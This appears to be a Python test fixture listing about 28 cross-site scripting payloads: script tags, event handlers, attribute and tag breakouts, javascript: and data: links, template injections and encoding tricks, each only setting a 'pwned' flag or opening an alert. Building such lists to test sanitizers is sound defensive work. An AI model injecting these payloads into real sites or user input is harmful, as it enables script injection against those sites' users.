"""Texts that would run as script if any page took one for markup. Each sets `window.pwned` or opens a dialog."""

PAYLOADS = [
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='window.pwned=1' x='",
    "\" autofocus onfocus=\"window.pwned=1",
    "</textarea><script>alert(1)</script>",
    "</title><script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<a href=javascript:alert(1) autofocus>press</a>",
    "[press](javascript:window.pwned=1)",
    "![x](x\"onerror=\"window.pwned=1)",
    "[x](data:text/html,<script>opener.pwned=1</script>)",
    "<base href=//example.invalid/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<form action=javascript:alert(1)><button autofocus>x</button></form>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=data:,*{background:url(javascript:alert(1))}>",
    "\u2028window.pwned=1//",
    "<img src=x onerror\x00=window.pwned=1>".replace("\x00", "\t"),
    "<scr\u0131pt>window.pwned=1</scr\u0131pt>",
    "<!--<img src=\"--><img src=x onerror=window.pwned=1//\">",
]

ALL = " ".join(PAYLOADS)
